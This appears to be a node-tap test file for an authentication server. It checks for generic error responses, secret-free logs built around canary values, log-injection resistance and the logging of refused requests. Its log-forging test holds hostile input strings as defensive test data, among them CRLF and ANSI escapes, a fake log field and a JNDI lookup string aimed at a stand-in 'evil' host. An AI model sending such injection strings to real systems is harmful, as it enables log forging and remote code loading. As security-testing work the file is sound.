/** What leaves on a refusal, and what stays in the log: rows H07, G02 to G05 and L28. */
import { once } from "node:events";
import t from "tap";
import { form, goodPassword, testApp } from "../support/app.ts";
import { onEachStore } from "../support/stores.ts";

/** Words that only an answer with inner details would hold: stacks, SQL, paths, packages, versions. */
const inner =
	/\bat \S+ \(|node:|node_modules|\.[tj]s\b|select |insert |update |sqlite|postgres|kysely|fastify|FST_|ajv|pino|\/(src|tmp|home|root|work)\/|\d+\.\d+\.\d+/i;

t.test("H07: errors are generic, and carry the request id that the log has", async (t) => {
	const house = await testApp(t, {
		settings: { HASH_THREADS: "1", HASH_MAX_WAIT_SECONDS: "1", REVOCATION_MAX_STALENESS_SECONDS: "0" },
		extend: (app) => {
			const config = { access: "public" };
			app.get("/throws", { config }, async () => {
				throw new Error("select * from users failed in /src/store/sqlite.ts");
			});
			app.get("/throws-text", { config }, async () => {
				throw "a text with password=hunter2";
			});
			app.get("/throws-coded", { config }, async () => {
				throw Object.assign(new Error("ECONNREFUSED 127.0.0.1:5432"), { code: "ECONNREFUSED", statusCode: 502 });
			});
			app.get("/throws-headers", { config }, async () => {
				throw Object.assign(new Error("x"), { statusCode: 404, headers: { "x-inner": "1" } });
			});
			app.get(
				"/wrong-answer",
				{
					config,
					schema: { response: { 200: { type: "object", required: ["a"], properties: { a: { type: "string" } } } } },
				},
				async () => ({}),
			);
			app.get(
				"/admins",
				{ config: { access: "users:write" }, preHandler: app.requires({ permissions: ["users:write"] }) },
				async () => ({}),
			);
			app.get("/of/:name", { config }, async () => ({}));
		},
	});
	const { app, get, services, tokenFor } = house;
	await services.credentials.register("ada", goodPassword, ["user"]);
	const token = await tokenFor("ada");
	const post = (payload: string, headers = {}) =>
		app.inject({ method: "POST", url: "/login", payload, headers: { "content-type": "application/json", ...headers } });
	const cases: [number, string, () => ReturnType<typeof get>][] = [
		[400, "VALIDATION_FAILED", () => post("{}")],
		[400, "MALFORMED_REQUEST", () => post("{")],
		[400, "MALFORMED_REQUEST", () => get("/%zz")],
		[401, "INVALID_CREDENTIALS", () => post(JSON.stringify({ username: "nobody", password: "x" }))],
		[401, "AUTHENTICATION_REQUIRED", () => get("/me")],
		[401, "INVALID_TOKEN", () => get("/me", "a.b.c")],
		[403, "INSUFFICIENT_PERMISSIONS", () => get("/admins", token)],
		[403, "CROSS_ORIGIN_REFUSED", () => post("{}", { origin: "null" })],
		[404, "NOT_FOUND", () => get("/node_modules/fastify/package.json")],
		[405, "METHOD_NOT_ALLOWED", () => get("/login")],
		[413, "PAYLOAD_TOO_LARGE", () => post(`"${"a".repeat(17_000)}"`)],
		[414, "URI_TOO_LONG", () => get(`/of/${"a".repeat(101)}`)],
		[415, "UNSUPPORTED_MEDIA_TYPE", () => post("{}", { "content-type": "text/plain" })],
		[500, "INTERNAL", () => get("/throws")],
		[500, "INTERNAL", () => get("/throws-text")],
		[500, "INTERNAL", () => get("/throws-coded")],
		[500, "INTERNAL", () => get("/wrong-answer")],
		[400, "MALFORMED_REQUEST", () => get("/throws-headers")],
	];
	const check = async (statusCode: number, code: string, call: () => ReturnType<typeof get>) => {
		const answer = await call();
		t.match(answer.json(), { statusCode, code }, code);
		t.equal(answer.statusCode, statusCode);
		t.strictSame(Object.keys(answer.json()).sort(), ["code", "error", "message", "statusCode"]);
		t.notMatch(answer.body.replace(/"(code|error)":"\w+"/g, ""), inner, `${code} says nothing of the inside`);
		t.equal(answer.headers["x-inner"], undefined);
		const id = answer.headers["x-request-id"];
		t.ok(
			house.logged.some((line) => line.reqId === id && line.code === code),
			`${code}: the log has the same request id`,
		);
		if (statusCode === 401 || statusCode === 403)
			t.equal(Boolean(answer.headers["www-authenticate"]), code !== "CROSS_ORIGIN_REFUSED", `${code}: challenge`);
		if (statusCode === 503) t.match(answer.headers["retry-after"], /^[1-9]\d*$/, "Retry-After");
	};
	for (const one of cases) await check(...one);
	t.match(
		JSON.stringify(house.logged.find(({ level }) => level === 50)),
		/select \* from users failed/,
		"the log has the reason",
	);

	await t.test("503 BUSY comes at once when the queue is too long", async (t) => {
		const login = () => post(JSON.stringify({ username: "nobody", password: "x" }));
		const before = services.passwords.stats().work.verify;
		const answers = await Promise.all(Array.from({ length: 60 }, login));
		const busy = answers.filter(({ statusCode }) => statusCode === 503);
		t.ok(busy.length > 10, `${busy.length} of 60 were refused`);
		t.ok(
			answers.some(({ statusCode }) => statusCode === 401),
			"the others had their turn",
		);
		for (const { headers, body } of busy) {
			t.match(JSON.parse(body), { statusCode: 503, code: "BUSY" });
			t.match(headers["retry-after"], /^[1-9]\d*$/);
		}
		t.equal(services.passwords.stats().work.verify - before, 60 - busy.length, "a refusal costs no hash");
	});

	await t.test("503 STORE_UNAVAILABLE where nothing is known any more", async () => {
		services.store.versions = async () => {
			throw new Error("connect ECONNREFUSED 127.0.0.1:5432");
		};
		await services.changes.poll();
		await check(503, "STORE_UNAVAILABLE", () => get("/protected", token));
	});
});

const canaries = [
	"Kanarie4711username",
	"Kanarie4711password",
	"Kanarie4711token",
	"Kanarie4711cookie",
	"Kanarie4711header",
];

onEachStore((kind) => {
	t.test(`${kind}: G02, G03: no secret reaches the log at any level`, async (t) => {
		const [name = "", password = "", text = "", cookie = "", header = ""] = canaries;
		const fault = new Error("a fault");
		const house = await testApp(t, {
			store: kind,
			logLevel: "trace",
			extend: (app) => {
				app.post(
					"/faulty",
					{ config: { access: "public" }, schema: { consumes: ["application/json"], body: {} } },
					async () => {
						throw fault;
					},
				);
			},
		});
		const { app, services, rawLog } = house;
		const id = await services.credentials.register("ada", `${password} thistle meridian`, ["user"]);
		const token = (await house.login("ada", `${password} thistle meridian`)).json().access_token as string;
		const more = {
			cookie: `sid=${cookie}; __Host-refresh=${cookie}`,
			"user-agent": header,
			referer: `http://localhost/?password=${password}`,
			"x-api-key": header,
			"proxy-authorization": `Basic ${header}`,
		};
		const send = (url: string, payload: string, type: string, authorization = `Bearer ${text}`) =>
			app.inject({ method: "POST", url, payload, headers: { ...more, "content-type": type, authorization } });
		const formType = "application/x-www-form-urlencoded";
		const login = (fields: Record<string, string>) => send("/login", form(fields).payload, formType);
		const calls: [string, number, () => ReturnType<typeof send>][] = [
			["success", 200, () => login({ username: "ada", password: `${password} thistle meridian` })],
			["wrong password", 401, () => login({ username: "ada", password })],
			["G03: a password in the username field", 401, () => login({ username: password, password: "x" })],
			["unknown user", 401, () => login({ username: name, password })],
			["a username that cannot be one", 400, () => login({ username: `${password} with spaces`, password })],
			["a password that cannot be one", 400, () => login({ username: name, password: `${password}\0` })],
			["unknown fields", 400, () => login({ username: name, password, [password]: password })],
			["a field twice", 400, () => send("/login", `${password}=1&${password}=2`, formType)],
			["broken escapes", 400, () => send("/login", `password=${password}%zz`, formType)],
			["too large", 413, () => login({ username: name, password: password.repeat(1000) })],
			["broken JSON", 400, () => send("/login", `{"username":"${name}","password":"${password}`, "application/json")],
			["broken JSON, early", 400, () => send("/login", `{"${password}":${password}}`, "application/json")],
			["bare JSON", 400, () => send("/login", `${password}`, "application/json")],
			["poisoned JSON", 400, () => send("/login", `{"__proto__":"${password}"}`, "application/json")],
			[
				"wrong types",
				400,
				() => send("/login", `{"username":["${name}"],"password":{"${password}":1}}`, "application/json"),
			],
			["wrong content type", 415, () => send("/login", password, `text/${header}`)],
			["in the query", 400, () => send(`/login?password=${password}`, "", formType)],
			["in the path", 404, () => send(`/${password}`, "", formType)],
			["in a broken path", 400, () => send(`/${password}%zz`, "", formType)],
			[
				"GET with a query",
				405,
				() => app.inject({ url: `/login?username=${name}&password=${password}`, headers: more }),
			],
			[
				"foreign origin",
				403,
				() => app.inject({ method: "POST", url: "/login", headers: { ...more, origin: `http://${header}` } }),
			],
			[
				"a token that is none",
				401,
				() => app.inject({ url: "/me", headers: { ...more, authorization: `Bearer ${text}` } }),
			],
			[
				"three segments",
				401,
				() => house.get("/me", `${Buffer.from(text).toString("base64url")}.${text}AAA.${text}AAA`),
			],
			["another scheme", 401, () => app.inject({ url: "/me", headers: { authorization: `Basic ${header}` } })],
			["a forged claim", 401, () => house.get("/me", house.mint({ ...house.claims(id), iss: text, aud: [text] }))],
			[
				"a forged header",
				401,
				() => house.get("/me", house.mint(house.claims(id), { kid: text, typ: text, [text]: text })),
			],
			["a payload that is no JSON", 401, () => house.get("/me", house.mint(`{"${text}`))],
			[
				"wrong current password",
				403,
				() =>
					send(
						"/password",
						form({ current_password: password, new_password: `${password} lantern harbour` }).payload,
						formType,
						`Bearer ${token}`,
					),
			],
			[
				"a weak new password",
				400,
				() =>
					send(
						"/password",
						form({ current_password: password, new_password: password.slice(0, 12) }).payload,
						formType,
						`Bearer ${token}`,
					),
			],
			["a fault", 500, () => send("/faulty", `{"password":"${password}"}`, "application/json")],
		];
		for (const [what, statusCode, call] of calls) {
			const answer = await call();
			t.equal(answer.statusCode, statusCode, what);
			for (const canary of canaries) {
				t.notOk(rawLog().includes(canary), `${what}: ${canary} is not in the log`);
				t.notOk(rawLog().includes(canary.toLowerCase()), `${what}: nor in lower case`);
				t.notOk(answer.body.includes(canary), `L28: ${what}: ${canary} is not in the answer`);
			}
		}
		await services.store.db.destroy();
		const gone = await house.login(name, password);
		t.ok(gone.statusCode >= 500, "the store is gone");
		t.notOk(gone.body.includes("Kanarie4711"));
		t.notMatch(rawLog(), /Kanarie4711/i, "faults of the store do not repeat what was asked of it");
		t.notOk(
			rawLog().includes(token) || rawLog().includes(token.split(".")[2] ?? "?"),
			"nor is a token that was issued",
		);
		t.notMatch(rawLog(), /PRIVATE KEY|\$2b\$|thistle/, "nor a key, a hash or a password");
		t.ok(house.logged.length > calls.length, "and yet there is a log");
	});
});

t.test("G04: no text breaks a line of the log or fakes one", async (t) => {
	const house = await testApp(t);
	const hostile = [
		"a\r\nb",
		"a\nb",
		"\u001b[2J\u001b[31mred",
		"a\u2028b\u2029c",
		'","level":60,"msg":"fake',
		"\u0024{jndi:ldap://evil/a}",
		"%0d%0afake",
	];
	const before = house.logged.length;
	for (const text of hostile) {
		await house.login(text, text);
		await house.login("root", text);
		const printable = text.replace(/[^\x20-\x7e]/g, "?");
		await house.app.inject({
			url: `/${encodeURIComponent(text)}`,
			headers: { "user-agent": printable, "x-request-id": printable },
		});
		await house.app.inject({
			url: "/me",
			headers: { "x-forwarded-for": printable, authorization: `Bearer ${printable}` },
		});
		await house.get("/me", house.mint({ ...house.claims(text), jti: text, sid: text }));
		await house.get("/me", house.mint(house.claims("x"), { kid: text, typ: text }));
	}
	const lines = house.rawLog().split("\n").filter(Boolean);
	t.equal(lines.length - before, hostile.length * 6, "one line each");
	for (const line of lines) {
		t.doesNotThrow(() => JSON.parse(line));
		// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
		t.notMatch(line, /[\u0000-\u001f\u007f\u2028\u2029]/);
		t.notMatch(line, /"level":60/);
	}
});

t.test("G05: every denial is a line with its code, route, address and request id", async (t) => {
	const house = await testApp(t, {
		extend: (app) => {
			app.get(
				"/admins",
				{ config: { access: "users:write" }, preHandler: app.requires({ permissions: ["users:write"] }) },
				async () => ({}),
			);
		},
	});
	const id = await house.addUser("ada");
	const token = await house.tokenFor("ada");
	const { payload, headers } = form({ current_password: "wrong", new_password: "walnut harbour sixteen lanterns" });
	const cases: [string, string, string | undefined, () => ReturnType<typeof house.get>][] = [
		["/login", "INVALID_CREDENTIALS", "no such account", () => house.login("nobody")],
		["/login", "INVALID_CREDENTIALS", `wrong password ${id}`, () => house.login("ada", "wrong")],
		[
			"/login",
			"CROSS_ORIGIN_REFUSED",
			undefined,
			() => house.app.inject({ method: "POST", url: "/login", headers: { origin: "null" } }),
		],
		["/me", "AUTHENTICATION_REQUIRED", undefined, () => house.get("/me")],
		["/protected", "INVALID_TOKEN", "it is not three segments of base64url", () => house.get("/protected", "x")],
		["/admins", "INSUFFICIENT_PERMISSIONS", `account ${id}`, () => house.get("/admins", token)],
		[
			"/password",
			"INVALID_CURRENT_PASSWORD",
			undefined,
			() =>
				house.app.inject({
					method: "POST",
					url: "/password",
					payload,
					headers: { ...headers, authorization: `Bearer ${token}` },
				}),
		],
	];
	for (const [route, code, reason, call] of cases) {
		const answer = await call();
		const line = house.logged.findLast(({ reqId }) => reqId === answer.headers["x-request-id"]);
		t.match(
			line,
			{ level: 40, code, route, address: "127.0.0.1", msg: "request refused", ...(reason ? { reason } : {}) },
			code,
		);
		t.notMatch(JSON.stringify(line), /nobody/, "G03: never the name that was typed");
	}
	const good = await house.login("ada");
	const line = house.logged.findLast(({ reqId }) => reqId === good.headers["x-request-id"]);
	t.match(line, { msg: "logged in", user: id, address: "127.0.0.1" }, "and a login is one, too");
});

t.test("G05: what the HTTP parser refuses is logged, too", async (t) => {
	const house = await testApp(t);
	const { app } = house;
	await app.listen({ host: "127.0.0.1", port: 0 });
	const { connect } = await import("node:net");
	const socket = connect((app.server.address() as { port: number }).port, "127.0.0.1");
	socket.end("NONSENSE\r\n\r\n");
	let text = "";
	socket.on("data", (data) => {
		text += String(data);
	});
	await once(socket, "close");
	const id = /x-request-id: (\S+)/i.exec(text)?.[1];
	t.match(
		house.logged.find(({ reqId }) => reqId === id),
		{ code: "MALFORMED_REQUEST", address: "127.0.0.1" },
	);
});
